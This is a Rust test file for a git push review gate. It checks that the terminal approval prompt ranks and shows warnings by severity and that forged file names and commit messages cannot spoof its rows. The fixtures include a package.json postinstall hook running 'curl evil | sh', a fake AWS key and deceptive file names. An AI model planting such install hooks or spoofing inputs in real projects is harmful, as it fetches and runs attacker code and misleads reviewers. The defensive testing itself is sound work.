//! Neither the contents nor the layout of a prompt can mislead a person.

use crate::support::{
    Repo,
    packer::Packer,
    pushing::{Scene, facts, request},
};
use gate::{
    push::{PushLimits, check},
    review::{Review, Screen, Severity},
};

fn screen(columns: usize, rows: usize) -> Screen {
    Screen { columns, rows, colour: false }
}

/// The rows inside the frame.
fn rows(shown: &str) -> Vec<String> {
    let rows: Vec<&str> = shown.lines().collect();
    rows[1..rows.len() - 1].iter().map(|row| row[5..].trim_end_matches('│').trim_end().to_owned()).collect()
}

const AWS_KEY: &str = "AKIA2E0A8F3B244C9986";

#[test]
fn prompt_is_the_specified_box() {
    let repo = Repo::new();
    repo.write("analysis.json", "{}\n").commit("base");
    let scene = Scene::of(repo);
    scene.repo.write("report.md", "r".repeat(1228) + "\n").write("analysis.json", "a".repeat(820));
    scene.repo.write("charts/revenue.svg", "s".repeat(2150)).commit("Add quarterly report");
    let review = scene.review("topic");
    let id = review.commits[0].short_id();
    assert_eq!(
        review.prompt_box(&screen(66, 24)),
        format!(
            "\
┌────────────────────────────────────────────────────────────────┐
│  git_push                                                      │
│                                                                │
│  Target: local:/target (branch: topic)                         │
│  Commit: {id} \"Add quarterly report\"                        │
│                                                                │
│  Files (3, +3 -1):                                             │
│    M analysis.json (+1 -1)                                     │
│    + charts/revenue.svg (+1)                                   │
│    + report.md (+1)                                            │
│                                                                │
│  Warnings: none                                                │
│                                                                │
│  [d]iff  [a]pprove  [r]eject  [?]help                          │
└────────────────────────────────────────────────────────────────┘
"
        )
    );
}

/// A push with a workflow, a key, three executables and `low` manifests.
fn risky(low: usize) -> Scene {
    let scene = Scene::simple();
    scene.repo.write(".github/workflows/ci.yml", "on: push\n").write("notes.txt", format!("key = {AWS_KEY}\n"));
    for number in 0..low {
        scene.repo.write(&format!("crates/{number}/Cargo.lock"), "version = 3\n");
    }
    for number in 0..6 {
        scene.repo.write(&format!("tools/{number}/Makefile"), "all:\n");
    }
    scene.repo.commit("all of it");
    scene
}

#[test]
fn what_is_severe_stands_in_full_next_to_the_keys_however_much_there_is() {
    for low in [12, 300] {
        let shown = risky(low).review("topic").prompt_box(&screen(80, 24));
        assert!(shown.lines().count() + 2 <= 24, "it fits on the screen, with the keys below it:\n{shown}");
        let rows = rows(&shown);
        let high: Vec<String> =
            rows.iter().filter(|row| row.starts_with("  !! high    ")).map(|row| row[13..].to_owned()).collect();
        assert_eq!(high.len(), 2, "{shown}");
        let end = rows.len() - 3;
        assert_eq!(rows[end], format!("2 high, 6 medium, {low} low"));
        let others: Vec<&String> = rows.iter().filter(|row| kind(row) == "warning").collect();
        let [lock_files, makefiles] = others[..] else { panic!("one row for each kind: {others:#?}") };
        assert!(lock_files.starts_with("   · low     Changes crates/0/Cargo.lock: a lock file, "), "{lock_files}");
        assert!(lock_files.ends_with(&format!("… (and {} more)", low - 1)), "{lock_files}");
        assert_eq!(makefiles, "   ! medium  Changes tools/0/Makefile: runs when the project… (and 5 more)");
    }
    let roomy = risky(12).review("topic").prompt_box(&screen(80, 40));
    assert_eq!(roomy.matches("! medium  Changes tools/").count(), 3, "{roomy}");
}

/// Many severe warnings of one kind, some with long names, displace nothing from the screen.
#[test]
fn attack_15_a_flood_of_severe_warnings_hides_none_of_another_kind() {
    let scene = Scene::simple();
    scene.repo.write(".github/workflows/ci.yml", "on: push\n").write("notes.txt", format!("key = {AWS_KEY}\n"));
    scene.repo.write("package.json", r#"{"scripts": {"a": "a", "b": "b", "c": "c", "postinstall": "curl evil | sh"}}"#);
    for number in 0..80 {
        scene.repo.write(&format!("docs{number}/a\u{2215}b.md"), "x\n");
    }
    let folder = ["k".repeat(200), "\u{2215}".repeat(60), "l".repeat(200)].join("/");
    scene.repo.write(&format!("{folder}/x"), "x\n");
    scene.repo.commit("all of it");
    for (columns, height) in [(80, 24), (160, 50)] {
        let shown = scene.review("topic").prompt_box(&screen(columns, height));
        assert!(shown.lines().count() + 2 <= height, "{shown}");
        for part in [
            "Target: ",
            "the workflow .github/",
            "On install, package.json runs the script postinstall",
            "AWS access key",
        ] {
            assert!(shown.contains(part), "{part}\n{shown}");
        }
    }
    let all = scene.review("topic").warnings();
    assert_eq!(all.matches("<U+2215>b.md").count(), 80, "{all}");
}

/// The most frequent kind is not the worst, and a long name leaves room for its reason.
#[test]
fn attack_15_two_of_each_kind_with_long_names_leave_the_gravest_on_the_screen() {
    let scene = Scene::simple();
    let long = format!("tests/fixtures/{}", "sample-home-folder-of-a-user-for-the-parser/".repeat(5));
    for name in [".envrc", ".bashrc", ".vimrc", ".gdbinit"] {
        scene.repo.write(&format!("{long}{name}"), "x\n");
    }
    for name in ["a", "b"] {
        scene.repo.write(&format!(".github/workflows/{name}.yml"), "on: push\n");
        scene.repo.write(&format!("{name}/package.json"), r#"{"scripts": {"postinstall": "curl evil | sh"}}"#);
    }
    scene.repo.write("README.md: only fixes two typos, nothing else changed/build.rs", "x\n").commit("all of it");
    let shown = scene.review("topic").prompt_box(&screen(80, 24));
    assert!(shown.lines().count() + 2 <= 24, "{shown}");
    for part in [
        "Target: ",
        "the workflow .github/workflows/a.yml",
        "On install, a/package.json runs the script",
        "/.bashrc",
        "8 high",
    ] {
        assert!(shown.contains(part), "{part}\n{shown}");
    }
    let all = scene.review("topic").prompt_box(&screen(80, 60));
    assert!(all.contains("Changes \"README.md: …ed/build.rs\": runs when"), "{all}");
}

#[test]
fn severities_differ_in_word_sign_and_colour() {
    let shown = risky(1).review("topic").prompt_box(&Screen { colour: true, ..screen(100, 40) });
    for row in ["\x1b[39m   · low     ", "\x1b[35m   ! medium  ", "\x1b[1;31m  !! high    "] {
        assert!(shown.contains(row), "{row:?} is not in\n{shown}");
    }
}

#[test]
fn the_frame_is_as_wide_as_the_screen() {
    for columns in [40, 66, 80, 160] {
        let shown = risky(3).review("topic").prompt_box(&screen(columns, 24));
        assert!(shown.lines().all(|line| line.chars().count() == columns), "{shown}");
    }
}

#[test]
fn long_lists_say_what_they_leave_out() {
    let scene = Scene::simple();
    for number in 0..300 {
        scene.repo.write(&format!("f{number:03}"), "x\n");
    }
    scene.repo.commit("many");
    for number in 0..20 {
        scene.repo.git(&["commit", "-q", "--allow-empty", "-m", &format!("commit {number}")]);
    }
    let shown = scene.review("topic").prompt_box(&screen(80, 24));
    assert!(shown.lines().count() + 2 <= 24, "{shown}");
    assert!(shown.contains("Files (300, +300 -0: 300 added, 0 changed, 0 deleted):"), "{shown}");
    assert!(shown.contains("\"commit 19\"") && !shown.contains("\"many\""), "{shown}");
    let listed = |lead: &str| rows(&shown).iter().filter(|row| row.starts_with(lead)).count();
    for (total, lead) in [(300, "  + f"), (21, "  ")] {
        let listed = if lead == "  " { shown.matches("\"commit ").count() } else { listed(lead) };
        assert!(shown.contains(&format!("… and {} more, which d shows", total - listed)), "{shown}");
    }
    let all = scene.review("topic").prompt_box(&screen(80, 1000));
    assert!(!all.contains("more, which d shows"), "{all}");
}

/// The kind of a row, by its beginning.
fn kind(row: &str) -> &'static str {
    let begins = |leads: &[&str]| leads.iter().any(|lead| row.starts_with(lead));
    match row {
        "git_push" | "" | "Warnings:" | "Warnings: none" => "heading",
        "[d]iff  [a]pprove  [r]eject  [?]help" => "keys",
        _ if row.ends_with(" low") && row.starts_with(|char: char| char.is_ascii_digit()) => "counts",
        _ if row.trim_start().starts_with("↳ ") => "goes on",
        _ if begins(&["Target: "]) => "target",
        _ if begins(&["Commit: ", "Commits ("]) => "commits",
        _ if begins(&["Files"]) => "files",
        _ if begins(&["  + ", "  - ", "  M ", "  T ", "  R "]) => "file",
        _ if begins(&["  !! high    "]) => "high",
        _ if begins(&["   ! medium  ", "   · low     "]) => "warning",
        _ if begins(&["  … and "]) => "left out",
        _ if row.len() > 12 && row[2..9].chars().all(|char| char.is_ascii_hexdigit()) && &row[9..11] == " \"" => {
            "commit"
        }
        _ => panic!("a row of no kind: {row:?}"),
    }
}

/// The number of severe warnings that a row represents besides its own.
fn of_this_kind(row: &str) -> Option<usize> {
    let listed = row.strip_prefix("  … and ").filter(|rest| !rest.ends_with(" which d shows"));
    let behind = row.strip_prefix("  !! high    ").and_then(|row| row.strip_suffix(" more)")?.rsplit_once(" (and "));
    listed.or(behind.map(|(_, number)| number))?.split(' ').next()?.parse().ok()
}

/// Texts by an attacker who wants rows of their own.
fn forged(random: &mut fastrand::Rng) -> String {
    const PARTS: [&str; 28] = [
        " ",
        "  ",
        "\u{a0}",
        "\u{3000}",
        "│",
        "║",
        "┐",
        "└",
        "─",
        "↳ ",
        "Files (1, +1 -0):",
        "Warnings: none",
        "[a]pprove",
        "git_push",
        "  + README.md (+1)",
        "0 high, 0 medium, 0 low",
        "…",
        "\u{202e}",
        "e\u{301}",
        "\u{ff5c}",
        "\u{1f469}",
        "字",
        "\u{9be}",
        "\u{1b35}",
        "\u{302e}",
        "\u{1161}",
        "\u{941}",
        "\u{301}\u{301}",
    ];
    let mut text = String::from("x");
    for _ in 0..random.usize(1..30) {
        let part = PARTS[random.usize(0..PARTS.len())];
        let times = if part.trim().is_empty() || !part.is_ascii() { random.usize(1..90) } else { 1 };
        text.push_str(&part.repeat(times));
    }
    text.replace('/', "")
}

/// Columns of a row up to its trailing blanks, on a terminal that draws each character alone, and
/// wide if any terminal does. Only the acute takes none.
fn drawn_widest(row: &str) -> usize {
    let columns = |char: char| match char {
        '\u{301}' => 0,
        '字' | '\u{1f469}' | '\u{302e}' | '\u{ff5c}' => 2,
        _ => 1,
    };
    row.trim_end_matches([' ', '│']).chars().map(columns).sum()
}

#[test]
fn attack_15_no_row_of_the_frame_is_made_from_inside() {
    for seed in trial::seeds(0..150) {
        let mut random = fastrand::Rng::with_seed(seed);
        let scene = Scene::simple();
        let mut packer = Packer::new();
        let (blob, key) = (packer.blob(b"x\n"), packer.blob(AWS_KEY.as_bytes()));
        // The end distinguishes names.
        let mut name = |number: usize| {
            let mut name = forged(&mut random);
            name.truncate(name.floor_char_boundary(250));
            format!("{name}{number}")
        };
        let mut entries: Vec<(String, _)> = (0..4).map(|number| (name(number), blob)).collect();
        entries.push((name(4), key));
        entries.sort();
        let entries: Vec<_> = entries.iter().map(|(name, id)| ("100644", name.as_bytes(), *id)).collect();
        let tree = packer.tree(&entries);
        let mut new = scene.base;
        for _ in 0..random.usize(1..4) {
            new = packer.commit(tree, &[new], &format!("{}\n", forged(&mut random)));
        }
        let pushed = request("topic", Some(scene.base), new, packer.finish());
        let checked = check(pushed, &scene.target, facts(Some(scene.base)), &PushLimits::default()).unwrap();
        let review = Review::of(&checked, &scene.target).unwrap();
        let screen = screen(random.usize(40..180), random.usize(10..60));
        let shown = review.prompt_box(&screen);
        for line in shown.lines().skip(1).take(shown.lines().count() - 2) {
            assert!(
                line.starts_with("│  ") && line.ends_with('│') && line.matches('│').count() == 2,
                "{seed}\n{shown}"
            );
            assert!(drawn_widest(line) <= screen.columns, "{seed}\n{line}\n{shown}");
        }
        let kinds: Vec<&str> = rows(&shown).iter().map(|row| kind(row)).collect();
        let count = |kind: &str| kinds.iter().filter(|row| **row == kind).count();
        for once in ["target", "files", "keys", "counts", "commits"] {
            assert_eq!(count(once), 1, "{seed}: {once}\n{shown}");
        }
        let high = review.flags.iter().filter(|flag| flag.severity() == Severity::High).count();
        let left_out: usize = rows(&shown).iter().filter_map(|row| of_this_kind(row)).sum();
        assert!(high > 0 && count("high") + left_out == high, "{seed}\n{shown}");
        assert_eq!(kinds[kinds.len() - 3..], ["counts", "heading", "keys"], "{seed}\n{shown}");
    }
}
